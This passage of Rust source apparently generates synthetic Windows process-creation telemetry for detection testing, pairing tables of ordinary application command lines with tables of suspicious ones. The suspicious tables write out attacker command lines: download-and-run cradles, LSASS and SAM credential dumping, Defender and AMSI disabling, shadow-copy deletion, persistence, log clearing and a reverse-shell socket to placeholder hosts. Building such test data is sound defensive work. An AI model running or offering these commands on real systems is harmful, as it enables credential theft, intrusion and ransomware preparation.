    ("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe", "7-Zip Console", &["x C:\\Users\\{{U}}\\Downloads\\logs.zip -oC:\\Users\\{{U}}\\logs", "a backup.7z C:\\Data"]),
    ("C:\\Program Files\\Notepad++\\notepad++.exe", "notepad++.exe", "Notepad++", &["", "\"C:\\Users\\{{U}}\\Documents\\config.ini\""]),
    ("C:\\Program Files\\Git\\cmd\\git.exe", "git.exe", "Git for Windows", &["status", "pull --rebase", "fetch origin", "log --oneline -n 20", "commit -m \"fix build\""]),
    ("C:\\Program Files\\Git\\mingw64\\bin\\git.exe", "git.exe", "Git for Windows", &["rev-parse --show-toplevel", "config --get remote.origin.url"]),
    ("C:\\Program Files\\Git\\usr\\bin\\bash.exe", "bash.exe", "GNU Bash", &["--login -i"]),
    ("C:\\Program Files\\nodejs\\node.exe", "node.exe", "Node.js JavaScript Runtime", &["C:\\Users\\{{U}}\\src\\app\\node_modules\\.bin\\..\\vite\\bin\\vite.js", "server.js"]),
    ("C:\\Program Files\\Python311\\python.exe", "python.exe", "Python", &["-m pip install --upgrade pip", "manage.py runserver", "C:\\Users\\{{U}}\\src\\tools\\report.py"]),
    ("C:\\Program Files\\Java\\jdk-17\\bin\\java.exe", "java.exe", "Java(TM) Platform SE binary", &["-jar C:\\Tools\\app.jar", "-Xmx2g -cp lib\\* com.corp.Main"]),
    ("C:\\Program Files\\Microsoft VS Code\\Code.exe", "electron.exe", "Visual Studio Code", &["", "--type=renderer --enable-crash-reporter=a5f3,no_channel --user-data-dir=\"C:\\Users\\{{U}}\\AppData\\Roaming\\Code\"", "C:\\Users\\{{U}}\\src\\app"]),
    ("C:\\Program Files\\Microsoft Visual Studio\\2022\\Community\\Common7\\IDE\\devenv.exe", "devenv.exe", "Microsoft Visual Studio 2022", &["", "\"C:\\Users\\{{U}}\\src\\Corp.sln\""]),
    ("C:\\Program Files\\Microsoft Visual Studio\\2022\\Community\\MSBuild\\Current\\Bin\\amd64\\MSBuild.exe", "MSBuild.exe", "MSBuild.exe", &["/nologo /nodemode:1 /nodeReuse:true /low:false"]),
    ("C:\\Program Files\\dotnet\\dotnet.exe", "dotnet.exe", ".NET Host", &["build", "test --no-build", "C:\\Program Files\\dotnet\\sdk\\8.0.100\\MSBuild.dll -nologo"]),
    ("C:\\Program Files\\Windows Defender\\MsMpEng.exe", "MsMpEng.exe", "Antimalware Service Executable", &[""]),
    ("C:\\Program Files\\Windows Defender\\NisSrv.exe", "NisSrv.exe", "Microsoft Network Realtime Inspection Service", &[""]),
    ("C:\\Program Files\\Windows Defender\\MpCmdRun.exe", "MpCmdRun.exe", "Microsoft Malware Protection Command Line Utility", &["-wdenable", "-IdleTask -TaskName WdCacheMaintenance"]),
    ("C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe", "vmtoolsd.exe", "VMware Tools Core Service", &["", "-n vmusr"]),
    ("C:\\Program Files\\Zoom\\bin\\Zoom.exe", "Zoom.exe", "Zoom Meetings", &["--url=zoommtg://zoom.us/join?action=join&confno=85512349876"]),
    ("C:\\Program Files\\Wireshark\\Wireshark.exe", "Wireshark.exe", "Wireshark", &[""]),
    ("C:\\Program Files\\KeePass Password Safe 2\\KeePass.exe", "KeePass.exe", "KeePass", &[""]),
    ("C:\\Program Files\\PuTTY\\putty.exe", "PuTTY", "SSH, Telnet and Rlogin client", &["-ssh admin@10.0.0.15", ""]),
    ("C:\\Program Files\\WinSCP\\WinSCP.exe", "winscp.exe", "WinSCP: SFTP, FTP, WebDAV, S3 and SCP client", &[""]),
    ("C:\\Program Files\\VideoLAN\\VLC\\vlc.exe", "vlc.exe", "VLC media player", &["--started-from-file \"C:\\Users\\{{U}}\\Videos\\training.mp4\""]),
    ("C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe", "sqlservr.exe", "SQL Server Windows NT - 64 Bit", &["-sMSSQLSERVER"]),
    ("C:\\Program Files\\Microsoft SQL Server\\150\\Tools\\Binn\\SQLCMD.EXE", "SQLCMD.EXE", "T-SQL execution command line utility", &["-S localhost -Q \"SELECT @@VERSION\""]),
    ("C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe", "MicrosoftEdgeUpdate.exe", "Microsoft Edge Update", &["/ua /installsource scheduler", "/c"]),
    ("C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe", "GoogleUpdate.exe", "Google Installer", &["/ua /installsource scheduler", "/svc"]),
    ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\120.0.2210.91\\identity_helper.exe", "identity_helper.exe", "Microsoft Edge", &["--type=utility --utility-sub-type=winrt_app_id.mojom.WinrtAppIdService --lang=en-US --service-sandbox-type=none"]),
    ("C:\\Program Files (x86)\\Dropbox\\Client\\Dropbox.exe", "Dropbox.exe", "Dropbox", &["/systemstartup"]),
    ("C:\\Program Files (x86)\\Citrix\\ICA Client\\wfica32.exe", "wfica32.exe", "Citrix HDX Engine", &["\"C:\\Users\\{{U}}\\AppData\\Local\\Temp\\launch.ica\""]),
    ("C:\\Program Files (x86)\\TeamViewer\\TeamViewer.exe", "TeamViewer.exe", "TeamViewer", &[""]),
    ("C:\\Program Files\\Docker\\Docker\\Docker Desktop.exe", "Docker Desktop.exe", "Docker Desktop", &["-Autostart"]),
    ("C:\\Program Files\\CrowdStrike\\CSFalconService.exe", "CSFalconService.exe", "CrowdStrike Falcon Sensor Service", &[""]),
    ("C:\\Program Files\\Splunk\\bin\\splunkd.exe", "splunkd.exe", "splunkd", &["service"]),
    ("C:\\Program Files\\Splunk\\bin\\splunk-winevtlog.exe", "splunk-winevtlog.exe", "Splunk WinEventLog", &[""]),
    ("C:\\Program Files\\WindowsApps\\Microsoft.WindowsTerminal_1.18.3181.0_x64__8wekyb3d8bbwe\\WindowsTerminal.exe", "WindowsTerminal.exe", "Windows Terminal", &[""]),
    ("C:\\Program Files\\WindowsApps\\Microsoft.WindowsTerminal_1.18.3181.0_x64__8wekyb3d8bbwe\\OpenConsole.exe", "OpenConsole.exe", "Console Window Host", &["--headless --width 120 --height 30 --signal 0x8f4 --server 0x8ec"]),
    ("C:\\Program Files\\PowerShell\\7\\pwsh.exe", "pwsh.dll", "PowerShell 7", &["", "-NoLogo", "-File C:\\Scripts\\deploy.ps1 -Environment staging"]),
    ("C:\\Program Files\\Oracle\\VirtualBox\\VirtualBox.exe", "VirtualBox.exe", "VirtualBox Manager", &[""]),
    ("C:\\Program Files\\Cisco\\Cisco AnyConnect Secure Mobility Client\\vpnui.exe", "vpnui.exe", "Cisco AnyConnect User Interface", &[""]),
    ("C:\\Program Files\\Intel\\Intel(R) Management Engine Components\\LMS\\LMS.exe", "LMS.exe", "Local Manageability Service", &[""]),
    ("C:\\Program Files\\NVIDIA Corporation\\NvContainer\\nvcontainer.exe", "nvcontainer.exe", "NVIDIA Container", &["-s NvContainerLocalSystem -f \"C:\\ProgramData\\NVIDIA\\NvContainerLocalSystem.log\""]),
    ("C:\\Program Files\\Realtek\\Audio\\HDA\\RtkAudUService64.exe", "RtkAudUService64.exe", "Realtek HD Audio Universal Service", &["-background"]),
    ("C:\\Program Files\\WinRAR\\WinRAR.exe", "WinRAR.exe", "WinRAR archiver", &["\"C:\\Users\\{{U}}\\Downloads\\drivers.rar\""]),
    ("C:\\Program Files\\Paint.NET\\paintdotnet.exe", "paintdotnet.exe", "paint.net", &[""]),
    ("C:\\Program Files\\Everything\\Everything.exe", "Everything.exe", "Everything", &["-startup"]),
];

// (relative to C:\Users\<user>\, OriginalFileName, Description, argument templates)
const USER_APPS: &[(&str, &str, &str, &[&str])] = &[
    ("AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "Teams.exe", "Microsoft Teams", &["", "--type=renderer --autoplay-policy=no-user-gesture-required --lang=en-US --app-path=\"C:\\Users\\{{U}}\\AppData\\Local\\Microsoft\\Teams\\current\\resources\\app.asar\"", "--system-initiated"]),
    ("AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", "OneDrive.exe", "Microsoft OneDrive", &["/background", "/updateInstalled /background"]),
    ("AppData\\Local\\Microsoft\\OneDrive\\23.226.1031.0003\\FileCoAuth.exe", "FileCoAuth.exe", "Microsoft OneDriveFile Co-Authoring Executable", &["-Embedding"]),
    ("AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", "electron.exe", "Visual Studio Code", &["", "--type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none"]),
    ("AppData\\Local\\Programs\\Python\\Python312\\python.exe", "python.exe", "Python", &["-m venv .venv", "C:\\Users\\{{U}}\\src\\scripts\\etl.py --day today"]),
    ("AppData\\Local\\slack\\app-4.35.126\\slack.exe", "slack.exe", "Slack", &["", "--type=renderer --lang=en-US"]),
    ("AppData\\Local\\Discord\\app-1.0.9020\\Discord.exe", "Discord.exe", "Discord", &[""]),
    ("AppData\\Local\\Programs\\Zoom\\bin\\Zoom.exe", "Zoom.exe", "Zoom Meetings", &[""]),
    ("AppData\\Local\\GitHubDesktop\\app-3.3.6\\GitHubDesktop.exe", "GitHubDesktop.exe", "GitHub Desktop", &[""]),
    ("AppData\\Local\\Postman\\app-10.20.0\\Postman.exe", "Postman.exe", "Postman", &[""]),
    ("AppData\\Local\\JetBrains\\Toolbox\\bin\\jetbrains-toolbox.exe", "jetbrains-toolbox.exe", "JetBrains Toolbox", &["--minimize"]),
    ("AppData\\Local\\Programs\\signal-desktop\\Signal.exe", "Signal.exe", "Signal", &[""]),
    ("AppData\\Local\\WhatsApp\\WhatsApp.exe", "WhatsApp.exe", "WhatsApp", &[""]),
    ("AppData\\Roaming\\Zoom\\bin\\Zoom.exe", "Zoom.exe", "Zoom Meetings", &[""]),
    ("AppData\\Local\\Microsoft\\WindowsApps\\winget.exe", "winget.exe", "Windows Package Manager", &["upgrade --all", "install Git.Git"]),
    ("AppData\\Local\\Programs\\Opera\\opera.exe", "opera.exe", "Opera Internet Browser", &[""]),
    ("AppData\\Local\\Spotify\\Spotify.exe", "Spotify.exe", "Spotify", &["--autostart --minimized"]),
    ("AppData\\Local\\Microsoft\\Edge SxS\\Application\\msedge.exe", "msedge.exe", "Microsoft Edge Canary", &[""]),
    ("AppData\\Local\\Programs\\obsidian\\Obsidian.exe", "Obsidian.exe", "Obsidian", &[""]),
    ("AppData\\Local\\Programs\\Notion\\Notion.exe", "Notion.exe", "Notion", &[""]),
    ("Downloads\\ChromeSetup.exe", "ChromeSetup.exe", "Google Update Setup", &[""]),
    ("Downloads\\npp.8.6.Installer.x64.exe", "npp.8.6.Installer.x64.exe", "Notepad++ installer", &["/S"]),
    ("AppData\\Local\\Temp\\{{R}}\\setup.exe", "setup.exe", "Setup", &["/quiet"]),
    ("AppData\\Local\\Temp\\is-{{R}}.tmp\\installer.tmp", "installer.tmp", "Setup/Uninstall", &["/SL5=\"$40C2A,2458133,832512,C:\\Users\\{{U}}\\Downloads\\tool-setup.exe\""]),
];

// Suspicious process creations: (image, OriginalFileName, command line, parent image,
// parent command line). Placeholders: {{U}} user, {{IP}} external IP, {{R}} random token,
// {{B64}} encoded PowerShell, {{PID}} a process id, {{H}} a host.
const SUSP_PROC: &[(&str, &str, &str, &str, &str)] = &[
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "powershell.exe -nop -w hidden -enc {{B64}}", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c start /b powershell.exe -nop -w hidden -enc {{B64}}"),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "powershell -NoProfile -ExecutionPolicy Bypass -EncodedCommand {{B64}}", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\{{U}}\\Downloads\\Invoice_{{R}}.doc\""),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "powershell.exe -ExecutionPolicy Bypass -File C:\\Users\\{{U}}\\AppData\\Local\\Temp\\{{R}}.ps1", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "powershell.exe -c \"IEX (New-Object Net.WebClient).DownloadString('http://{{IP}}/a.ps1')\"", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c run.bat"),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "powershell.exe -c \"Invoke-WebRequest -Uri http://{{IP}}/{{R}}.exe -OutFile $env:TEMP\\{{R}}.exe; Start-Process $env:TEMP\\{{R}}.exe\"", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c"),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c"),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "powershell.exe -ep bypass Add-MpPreference -ExclusionPath C:\\Users\\Public", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\rundll32.exe", "RUNDLL32.EXE", "rundll32.exe C:\\Users\\{{U}}\\AppData\\Local\\Temp\\{{R}}.dll,#1", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c rundll32.exe C:\\Users\\{{U}}\\AppData\\Local\\Temp\\{{R}}.dll,#1"),
    ("C:\\Windows\\System32\\rundll32.exe", "RUNDLL32.EXE", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {{PID}} C:\\Windows\\Temp\\lsass.dmp full", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\rundll32.exe", "RUNDLL32.EXE", "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:http://{{IP}}/x.sct\")", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
    ("C:\\Windows\\System32\\rundll32.exe", "RUNDLL32.EXE", "rundll32.exe shell32.dll,Control_RunDLL C:\\Users\\{{U}}\\AppData\\Local\\Temp\\{{R}}.cpl", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
    ("C:\\Windows\\System32\\certutil.exe", "CertUtil.exe", "certutil.exe -urlcache -split -f http://{{IP}}/payload.exe C:\\Users\\Public\\{{R}}.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c"),
    ("C:\\Windows\\System32\\certutil.exe", "CertUtil.exe", "certutil -decode C:\\Users\\{{U}}\\AppData\\Local\\Temp\\{{R}}.txt C:\\Users\\{{U}}\\AppData\\Local\\Temp\\{{R}}.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\reg.exe", "reg.exe", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {{R}} /t REG_SZ /d \"C:\\Users\\{{U}}\\AppData\\Roaming\\{{R}}.exe\" /f", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\reg.exe", "reg.exe", "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\reg.exe", "reg.exe", "reg.exe add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v DisableAntiSpyware /t REG_DWORD /d 1 /f", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\schtasks.exe", "schtasks.exe", "schtasks /create /sc minute /mo 30 /tn \"\\Microsoft\\Windows\\{{R}}\" /tr \"C:\\Users\\Public\\{{R}}.exe\" /ru SYSTEM /f", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\schtasks.exe", "schtasks.exe", "schtasks.exe /Create /SC ONLOGON /TN Updater /TR \"powershell.exe -w hidden -c IEX(gc C:\\Users\\Public\\u.txt)\"", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe"),
    ("C:\\Windows\\System32\\whoami.exe", "whoami.exe", "whoami /all", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\whoami.exe", "whoami.exe", "whoami /priv", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe"),
    ("C:\\Windows\\System32\\whoami.exe", "whoami.exe", "whoami", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami"),
    ("C:\\Windows\\System32\\net.exe", "net.exe", "net user {{U}}adm P@ssw0rd123! /add", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\net.exe", "net.exe", "net localgroup administrators {{U}}adm /add", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\net.exe", "net.exe", "net group \"Domain Admins\" /domain", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\net1.exe", "net1.exe", "C:\\Windows\\system32\\net1 user /domain", "C:\\Windows\\System32\\net.exe", "net user /domain"),
    ("C:\\Windows\\System32\\net.exe", "net.exe", "net view \\\\{{H}}", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\vssadmin.exe", "VSSADMIN.EXE", "vssadmin.exe delete shadows /all /quiet", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic.exe", "wmic shadowcopy delete", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic.exe", "wmic /node:{{H}} process call create \"cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt\"", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\bcdedit.exe", "bcdedit.exe", "bcdedit /set {default} recoveryenabled No", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\mshta.exe", "MSHTA.EXE", "mshta.exe http://{{IP}}/x.hta", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
    ("C:\\Windows\\System32\\regsvr32.exe", "REGSVR32.EXE", "regsvr32.exe /s /n /u /i:http://{{IP}}/file.sct scrobj.dll", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\bitsadmin.exe", "bitsadmin.exe", "bitsadmin /transfer myjob /download /priority high http://{{IP}}/a.exe C:\\Users\\Public\\a.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\nltest.exe", "nltestrk.exe", "nltest /domain_trusts", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe", "cmd.exe /c ping 127.0.0.1 -n 3 > nul & del /q \"C:\\Users\\{{U}}\\AppData\\Local\\Temp\\{{R}}.exe\"", "C:\\Users\\{{U}}\\AppData\\Local\\Temp\\{{R}}.exe", "C:\\Users\\{{U}}\\AppData\\Local\\Temp\\{{R}}.exe"),
    ("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe", "cmd.exe /c powershell -w hidden -c \"iwr http://{{IP}}/s.ps1 | iex\"", "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" \"C:\\Users\\{{U}}\\Downloads\\orders.xlsm\""),
    ("C:\\Users\\{{U}}\\Downloads\\procdump64.exe", "procdump", "procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\l.dmp", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\wevtutil.exe", "wevtutil.exe", "wevtutil cl Security", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\netsh.exe", "netsh.exe", "netsh advfirewall firewall add rule name=\"{{R}}\" dir=in action=allow protocol=TCP localport=3389", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\sc.exe", "sc.exe", "sc create {{R}} binPath= \"C:\\Users\\Public\\{{R}}.exe\" start= auto", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\attrib.exe", "ATTRIB.EXE", "attrib +h +s C:\\Users\\Public\\{{R}}.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\icacls.exe", "iCACLS.EXE", "icacls C:\\Windows\\System32\\{{R}}.dll /grant Everyone:F", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\curl.exe", "curl.exe", "curl.exe -o C:\\Users\\Public\\{{R}}.exe http://{{IP}}/{{R}}.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Users\\{{U}}\\Downloads\\m.exe", "mimikatz.exe", "m.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Users\\{{U}}\\Downloads\\AdFind.exe", "AdFind.exe", "AdFind.exe -f (objectcategory=computer) -csv name", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\msiexec.exe", "msiexec.exe", "msiexec.exe /q /i http://{{IP}}/pkg.msi", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\cscript.exe", "cscript.exe", "cscript.exe //E:jscript C:\\Users\\{{U}}\\AppData\\Local\\Temp\\{{R}}.js", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
    ("C:\\Windows\\System32\\wscript.exe", "wscript.exe", "wscript.exe C:\\Users\\{{U}}\\Downloads\\invoice_{{R}}.vbs", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
    ("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe", "cmd.exe /c copy \\\\{{H}}\\c$\\Windows\\Temp\\{{R}}.exe C:\\Windows\\Temp\\", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Users\\{{U}}\\Downloads\\PsExec64.exe", "psexec.c", "PsExec64.exe \\\\{{H}} -s -accepteula cmd.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\PSEXESVC.exe", "psexesvc.exe", "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe"),
    ("C:\\Windows\\System32\\ntdsutil.exe", "ntdsutil.exe", "ntdsutil.exe \"ac i ntds\" \"ifm\" \"create full c:\\temp\" q q", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\forfiles.exe", "forfiles.exe", "forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe", "cmd.exe /c \"C:\\Users\\Public\\{{R}}.bat\"", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"),
    ("C:\\Windows\\System32\\tasklist.exe", "tasklist.exe", "tasklist /v", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\systeminfo.exe", "sysinfo.exe", "systeminfo", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\ipconfig.exe", "ipconfig.exe", "ipconfig /all", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\nslookup.exe", "nslookup.exe", "nslookup -querytype=ALL -timeout=10 _ldap._tcp.dc._msdcs.corp.local", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Users\\{{U}}\\AppData\\Local\\Temp\\{{R}}.exe", "{{R}}.exe", "C:\\Users\\{{U}}\\AppData\\Local\\Temp\\{{R}}.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\""),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "powershell.exe -c \"Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}\"", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe", "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__{{R}} 2>&1", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"),
    ("C:\\Windows\\System32\\msbuild.exe", "MSBuild.exe", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\Users\\Public\\{{R}}.csproj", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "powershell.exe -c \"Compress-Archive -Path C:\\Users\\{{U}}\\Documents -DestinationPath C:\\Users\\Public\\d.zip\"", "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
];

const PS_BENIGN: &[&str] = &[
    "Get-ChildItem -Path C:\\Users\\{{U}}\\Documents -Filter *.docx | Sort-Object LastWriteTime",
    "Import-Module ActiveDirectory\nGet-ADUser -Identity {{U}} -Properties mail",
    "$services = Get-Service | Where-Object { $_.Status -eq 'Running' }\n$services | Export-Csv C:\\Reports\\services.csv -NoTypeInformation",
    "Set-StrictMode -Version Latest\n$ErrorActionPreference = 'Stop'\n. $PSScriptRoot\\common.ps1",
    "Test-Path -Path 'HKLM:\\SOFTWARE\\Corp\\Agent'",
    "Get-EventLog -LogName System -Newest 50 | Format-Table -AutoSize",
    "param([string]$Environment = 'staging')\nWrite-Host \"Deploying to $Environment\"",
    "{ Set-Location $env:USERPROFILE }",
    "prompt",
    "$PSVersionTable.PSVersion",
    "Restart-Service -Name Spooler -Force",
    "Get-Content C:\\Logs\\app.log -Tail 100 | Select-String -Pattern 'ERROR'",
    "New-Item -ItemType Directory -Path C:\\Temp\\build -Force | Out-Null",
    "Write-Output 'Backup finished' | Out-File -Append C:\\Logs\\backup.log",
];

const PS_SUSP: &[&str] = &[
    "IEX (New-Object Net.WebClient).DownloadString('http://{{IP}}/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds",
    "$b = [System.Convert]::FromBase64String('{{B64}}'); $s = [System.Text.Encoding]::Unicode.GetString($b); IEX $s",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "Add-MpPreference -ExclusionPath 'C:\\Users\\Public'",
    "Get-ADComputer -Filter * -Properties * | Select-Object Name,OperatingSystem",
    "$client = New-Object System.Net.Sockets.TCPClient('{{IP}}',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0}",
    "Invoke-WebRequest -Uri http://{{IP}}/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe",
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
    "Invoke-Expression (New-Object System.Net.WebClient).DownloadString('https://raw.githubusercontent.com/PowerShellMafia/PowerSploit/master/Recon/PowerView.ps1'); Get-DomainUser -SPN",
    "Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }",
    "Clear-EventLog -LogName Security",
    "Invoke-Kerberoast -OutputFormat Hashcat | Out-File C:\\Users\\Public\\h.txt",
    "Get-Clipboard",
    "Compress-Archive -Path C:\\Users\\{{U}}\\Documents -DestinationPath C:\\Users\\Public\\d.zip",
    "New-LocalUser -Name {{U}}adm -Password (ConvertTo-SecureString 'P@ssw0rd1' -AsPlainText -Force)",
];

// Script snippets used to build realistic `-enc` blobs.
const ENC_SNIPPETS: &[&str] = &[
    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a')",
    "$client = New-Object System.Net.Sockets.TCPClient('203.0.113.9',443)",
    "Start-Process -WindowStyle Hidden C:\\Users\\Public\\u.exe",
    "Invoke-Expression (Get-Content C:\\Users\\Public\\p.txt | Out-String)",
];

// ---------------------------------------------------------------------------------------------
// Generator.
// ---------------------------------------------------------------------------------------------

struct Bin {
    path: String,
    name: String,
    ofn: &'static str,
    desc: &'static str,
    company: &'static str,
    product: &'static str,
    args: &'static [&'static str],
    hashes: String,
    /// 0 service host child, 1 user GUI app, 2 shell tool, 3 core system process
    kind: u8,
    user_dir: bool,
}

fn hashes_for(path: &str) -> String {
    let h = fnv(path);
    format!(
        "SHA1={},MD5={},SHA256={},IMPHASH={}",
        hex_from(h, 40, true),
        hex_from(h ^ 1, 32, true),
        hex_from(h ^ 2, 64, true),
        hex_from(h ^ 3, 32, true)
    )
}

fn build_bins() -> Vec<Bin> {
    let mut bins = Vec::new();
    const SERVICE_CHILD: &[&str] = &[
        "svchost.exe",
        "dllhost.exe",
        "RuntimeBroker.exe",
        "taskhostw.exe",
        "backgroundTaskHost.exe",
        "WmiPrvSE.exe",
        "SearchProtocolHost.exe",
        "SearchFilterHost.exe",
        "smartscreen.exe",
        "sihost.exe",
        "audiodg.exe",
